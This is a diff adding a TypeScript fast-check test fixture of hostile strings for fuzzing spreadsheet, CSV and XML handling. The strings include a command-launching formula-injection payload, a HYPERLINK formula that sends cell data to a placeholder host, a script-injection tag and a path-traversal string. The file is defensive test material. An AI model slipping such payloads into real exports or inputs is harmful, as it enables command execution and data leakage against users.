@@ -1,0 +1,67 @@
+import fc from 'fast-check'
+
+/** Texts that break what writes or reads them carelessly. Without NUL, which XML and others lack. */
+export const hostileTexts: readonly string[] = [
+  '',
+  ' ',
+  '  two before and after  ',
+  '\u00a0=1+1',
+  '\u200b=1+1',
+  '\ufeff=1+1',
+  '\u3000＝1+1',
+  `=cmd|' /C calc'!A0`,
+  '=HYPERLINK("http://x.example/?"&A1,"click")',
+  '+1',
+  '-2+3',
+  '@SUM(A1)',
+  '＝1',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  'a,b;c\td',
+  'say "so"',
+  '"',
+  '""',
+  "'",
+  "'=1",
+  'first\nsecond',
+  'first\r\nsecond',
+  'first\rsecond',
+  '\n',
+  '\r',
+  '<script>alert(1)</script>&amp;<!-- ]]> -->',
+  '_x000D_',
+  '_x0041__x0042_',
+  '_x0041_x0042_',
+  '_x005F_x0041_',
+  '\u0001\u0002\u0008\u000b\u000c\u001f\u007f\u0085\u009f',
+  '\u001b[31mred',
+  '\ufffe\uffff',
+  '\u2028\u2029',
+  '🕵️‍♀️ 👩‍👩‍👧 𝔘𝔫𝔦',
+  'שלום‮abc‬',
+  'مرحبا بالعالم',
+  '王芳',
+  'e\u0301 é',
+  '00123',
+  '1e5',
+  '2026-05-01',
+  'TRUE',
+  'NULL',
+  'null',
+  '9007199254740993',
+  '../../etc/passwd',
+  'x'.repeat(32_767),
+]
+
+const pieces = [
+  '=', '+', '-', '@', '＝', '＋', '－', '＠', ' ', '\t', '\r', '\n', '"', ',', "'", '\u00a0', '\u200b',
+  '\ufeff', '\u2028', '\u0001', '\u001f', '\u0085', '_x0041_', '_x', '<', '>', '&', ']]>', 'a', '7',
+  '王', '🕵️', '\u3000', '\u180e', '\u00ad', '\\', ';',
+] // prettier-ignore
+
+/** Random texts of what is dangerous, and of anything. */
+export const hostileText: fc.Arbitrary<string> = fc.oneof(
+  fc.array(fc.constantFrom(...pieces), { maxLength: 8 }).map((some) => some.join('')),
+  fc.string({ unit: 'binary', maxLength: 20 }).map((text) => text.replaceAll('\0', '')),
+)
